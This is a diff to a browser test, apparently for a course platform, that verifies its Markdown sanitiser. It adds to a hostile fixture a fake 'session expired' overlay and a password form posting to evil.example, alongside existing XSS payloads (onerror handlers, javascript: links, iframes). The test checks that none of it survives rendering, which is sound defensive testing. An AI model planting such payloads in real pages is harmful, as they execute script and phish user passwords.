@@ -13,6 +13,9 @@ const HOSTILE_MARKDOWN = `
 <img src="x" onerror="window.__xss = 'img'">
 [un enlace](javascript:window.__xss='link')
 <iframe src="javascript:window.__xss='iframe'"></iframe>
+<style>main { display: none }</style>
+<div style="position:fixed;inset:0;z-index:9999;background:white">Su sesión expiró. Vuelva a ingresar.</div>
+<form action="https://evil.example/"><input name="password" type="password"><button>Ingresar</button></form>
 `;
 const HOSTILE_NAME = `<img src=x onerror="window.__xss='name'">Ana`;
 
@@ -88,8 +91,11 @@ describe('browser: stored Markdown and names never execute script', () => {
       handlers: [...document.querySelectorAll('main *')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
       javascriptLinks: [...document.querySelectorAll('main a')].filter((a) => (a.getAttribute('href') ?? '').toLowerCase().startsWith('javascript:')).length,
       iframes: document.querySelectorAll('main iframe').length,
+      // No lesson can restyle the page, overlay it or collect passwords (sanitiser allow-list; CSP as second lock).
+      styles: document.querySelectorAll('main style, main .prose [style], main form, main input').length,
+      fixed: [...document.querySelectorAll('main .prose *')].filter((el) => getComputedStyle(el).position === 'fixed').length,
     }));
-    expect(state).toEqual({ xss: undefined, scripts: 0, handlers: 0, javascriptLinks: 0, iframes: 0 });
+    expect(state).toEqual({ xss: undefined, scripts: 0, handlers: 0, javascriptLinks: 0, iframes: 0, styles: 0, fixed: 0 });
     expect(dialogs).toEqual([]);
     expect(course().modules.length).toBeGreaterThan(0);
     await context.close();
